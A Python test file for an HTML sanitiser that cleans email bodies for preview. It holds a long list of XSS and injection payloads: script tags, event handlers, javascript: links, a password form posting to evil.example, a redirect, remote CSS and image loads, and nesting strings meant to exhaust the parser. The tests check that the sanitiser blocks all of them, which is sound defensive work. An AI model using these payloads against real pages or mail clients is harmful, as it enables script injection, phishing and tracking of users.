import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gleanpoint.core.preview.html import CleanHtml, clean_html
from gleanpoint.core.preview.html_styles import declarations
from gleanpoint.core.preview.html_tags import ATTRIBUTES, KEPT

VECTORS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    '<img src="file:///etc/passwd">',
    "<img src='\\\\evil.example\\share\\x.png'>",
    "<img/src=`javascript:alert(1)`>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src=inline:0><img src=inline:../../x>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///c:/windows/system32/calc.exe'>x</a>",
    "<a href='\\\\evil.example\\x'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=http://evil.example><input type=password name=p><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example/b)}</style>",
    "<p style='background:url(http://evil.example/x.png)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9'>x</p>",
    '<p style="background-image:\\75rl(http://evil.example)">x</p>',
    "<body background=http://evil.example/bg.png onload=alert(1)>x</body>",
    "<table background=http://evil.example/bg.png><tr><td>x</table>",
    "<video src=http://evil.example/v poster=http://evil.example/p></video>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<a href=http://a.example title='x' onmouseover=alert(1) id=x class=y>x</a>",
    "<p id='\"><script>alert(1)</script>'>x</p>",
    "<img src=x alt='\"><script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<td colspan=100000000>x</td><ol start=99999999999999999999><li>x</ol>",
    "<img src=cid:known width=100000000 height=100000000>",
    "<table cellpadding=99999999 border=99999999><tr><td>a<td>b</table>",
    "<font size=99999999 color='red;background:url(http://evil.example)'>x</font>",
]
PIECES = [
    *VECTORS,
    *("<b>", "</b>", "<table>", "<tr>", "<td>", "</td>", "</table>", "<p>", "</p>", "<div>"),
    *(
        "</div>",
        "<a href=http://x.example>",
        "</a>",
        "<",
        ">",
        '"',
        "'",
        "&lt;",
        "\0",
        "text",
        "<li>",
    ),
    *("<!--", "-->", "</", "<style>", "</style>", "<script", "=", "style=", " "),
]
STYLES = {
    *("color", "background-color", "font-size", "font-weight", "font-style", "text-decoration"),
    *("text-align", "vertical-align", "white-space", "border-collapse"),
    *(
        f"{box}-{side}"
        for box in ("margin", "padding")
        for side in ("top", "right", "bottom", "left")
    ),
}


def one_picture(source: str) -> tuple[int, int] | None:
    return (0, 300) if source == "cid:known" else None


class Inspector(HTMLParser):
    """Looks at every tag that came through."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.depth = self.deepest = 0

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        assert tag in KEPT, tag
        for name, value in attributes:
            assert name in ATTRIBUTES.get(tag, set()), (tag, name)
            check_attribute(tag, name, value or "")
        if tag not in {"br", "img", "hr"}:
            self.depth += 1
            self.deepest = max(self.deepest, self.depth)

    def handle_endtag(self, tag: str) -> None:
        self.depth -= 1


def check_attribute(tag: str, name: str, value: str) -> None:
    if name == "href":
        assert re.match(r"(?:https?://|mailto:)", value), value
    if name == "src":
        assert re.fullmatch(r"inline:\d+", value), value
    if name in {"colspan", "rowspan", "cellpadding", "cellspacing", "border"}:
        assert int(value) <= 200
    if name == "width":
        assert int(value.rstrip("%")) <= 1000
    if name == "style":
        for declaration in filter(None, value.split(";")):
            assert declaration.split(":")[0].strip() in STYLES, value
        assert not re.search(r"url|expression|\\|@|/\*", value), value


def inspected(source: str) -> CleanHtml:
    cleaned = clean_html(source, one_picture)
    assert cleaned.html is not None
    inspector = Inspector()
    inspector.feed(cleaned.html)
    assert inspector.deepest <= 120
    return cleaned


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_that_runs_or_loads_comes_through(vector: str) -> None:
    inspected(vector)
    inspected(f"<p>before {vector} after <b>bold</b></p>")


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
def test_no_mixture_of_hostile_pieces_comes_through(source: str) -> None:
    inspected(source)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=200))
def test_any_text_is_cleaned_without_an_error(source: str) -> None:
    inspected(source)


def test_what_was_left_out_is_counted_with_its_place() -> None:
    cleaned = inspected(
        "<img src=http://news.example.com/a><img src=https://news.example.com/b>"
        "<img src=//other.example/c><img src=cid:gone>"
        "<style>@import url(http://css.example/x);</style><script>x</script>"
        "<p onclick=x()><form><input></form><iframe src=x></iframe>"
        "<a href=javascript:x>y</a><meta http-equiv=refresh content=0>"
    )
    blocked = cleaned.blocked
    assert blocked.pictures == {"news.example.com": 2, "other.example": 1}
    assert blocked.styles == {"css.example": 1}
    assert (blocked.scripts, blocked.forms, blocked.frames) == (2, 2, 1)
    assert (blocked.links, blocked.redirects) == (1, 1)
    assert inspected("<p>plain <a href=https://a.example>x</a></p>").blocked.is_empty


def test_a_link_that_pretends_to_lead_elsewhere_is_marked() -> None:
    html = inspected("<a href=http://evil.example/x>www.bank.example</a>").html
    assert html is not None
    assert "\u27e6\u2192 evil.example\u27e7" in html
    html = inspected("<a href=http://www.bank.example/x>bank.example/login</a>").html
    assert html is not None
    assert "\u2192" not in html


def test_pictures_of_the_message_itself_are_kept_by_number() -> None:
    html = inspected("<img src='cid:known' width=9999 onload=x>").html
    assert html == '<img src="inline:0" width="1000">'


def test_outlook_paragraphs_keep_their_spacing() -> None:
    html = inspected(
        "<style><!-- p.MsoNormal, li.MsoNormal {margin:0cm; margin-bottom:6.0pt;} --></style>"
        "<p class=MsoNormal>one</p>"
    ).html
    assert html is not None
    assert "margin-top: 0px" in html
    assert "margin-bottom: 8px" in html


def test_only_colours_that_say_something_ask_for_paper() -> None:
    assert not inspected("<p style='color:windowtext;background:white'>x</p>").has_own_colours
    assert inspected("<p style='color:#c00'>x</p>").has_own_colours
    assert inspected("<table><tr><td bgcolor=yellow>x<td>y</table>").has_own_colours


def test_text_that_its_ground_would_hide_takes_the_usual_colour() -> None:
    assert "color" not in (inspected("<p style='color:#fff'>hidden</p>").html or "")
    assert "color" not in (inspected("<font color=#fdfdfd>hidden</font>").html or "")
    on_navy = inspected("<table><tr><td bgcolor=navy><font color=white>x</font><td>y</table>").html
    assert on_navy is not None
    assert 'color="white"' in on_navy
    assert "navy" in on_navy


def test_light_grounds_of_what_was_layout_do_not_gape() -> None:
    html = inspected("<body bgcolor=#eeeeee><table bgcolor=#ffffee><tr><td>x</table>").html
    assert html is not None
    assert "background" not in html
    dark = inspected("<body bgcolor=#002244><p style='color:white'>x</p>").html
    assert dark is not None
    assert "#002244" in dark
    assert "white" in dark


def test_layout_tables_become_blocks_and_data_tables_stay() -> None:
    nested = "<table><tr><td>" * 12
    data = "<table><tr><td style='border:solid 1pt'>a<td>b<tr><td>c<td>d</table>"
    cleaned = inspected(nested + data)
    assert cleaned.html is not None
    assert cleaned.html.count("<table") == 1
    assert 'border="1"' in cleaned.html
    assert cleaned.text == "a\tb\nc\td"


def test_tables_of_data_in_each_other_stay_only_so_deep() -> None:
    html = inspected("<table><tr><td>x<td>" * 30).html
    assert html is not None
    assert html.count("<table") == 3


def test_text_of_a_body_reads_line_by_line() -> None:
    text = inspected(
        "<h1>Head</h1><p>One<br>two</p><ul><li>a<li>b</ul><p>caf&eacute; &amp; <img alt=pic></p>"
        "<style>p{}</style>"
    ).text
    assert text == "Head\n\nOne\ntwo\n\n\u2022 a\n\u2022 b\n\ncafé & [pic]"


@pytest.mark.parametrize(
    "hostile",
    [
        "<div>" * 150_000,
        "".join(f"<b id={n}>" for n in range(30_000)),
        "".join(f"<b id={n}><p>" for n in range(5000)) + "</b>" * 5000,
        "<table><tr><td>a<td>" * 30_000,
        "<div><table><td></div></table>" * 20_000,
        "<b><table>" + "<div>" * 50_000 + "</b>" * 100_000,
        "<" * 400_000,
        "<!--" * 250_000,
        '<a b="' * 150_000,
        "<a " + " a=1" * 200_000,
        "x" * 1_500_000,
        "<style>" + "a{color:red}" * 100_000 + "</style>",
        "<p>" * 200_000,
    ],
    ids=lambda hostile: hostile[:20],
)
@pytest.mark.clock
def test_hostile_nesting_takes_time_in_proportion_only(hostile: str) -> None:
    begin = time.monotonic()
    clean_html(hostile, one_picture)
    assert time.monotonic() - begin < 15


def test_a_body_too_large_or_too_involved_is_given_as_text_only() -> None:
    assert clean_html("<p>x" * 30_000, one_picture).html is None
    cleaned = clean_html("word " * 500_000, one_picture)
    assert cleaned.html is None
    assert cleaned.text.startswith("word word")


@given(st.text(max_size=80))
def test_any_style_is_filtered_without_an_error(text: str) -> None:
    assert set(declarations(text)) <= STYLES
